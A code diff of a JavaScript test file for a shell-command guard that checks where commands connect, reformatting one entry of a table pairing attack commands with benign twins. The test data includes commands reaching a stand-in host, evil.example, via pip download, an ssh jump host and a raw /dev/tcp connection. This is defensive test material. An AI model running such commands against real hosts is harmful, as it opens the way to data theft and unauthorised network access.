@@ -102,7 +102,11 @@ describe('a guard with a network section judges where shell commands connect', (
       'pip download --no-deps -d /tmp/w requests',
       'evil.example',
     ],
-    ['ssh -F none -J evil.example build.internal uptime', 'ssh -F none build.internal uptime', 'evil.example'],
+    [
+      'ssh -F none -J evil.example build.internal uptime',
+      'ssh -F none build.internal uptime',
+      'evil.example',
+    ],
     ['cat < /dev/tcp/evil.example/80', 'cat < /dev/tcp/localhost/80', 'evil.example'],
   ];
   for (const [attack, twin, host] of attacks) {
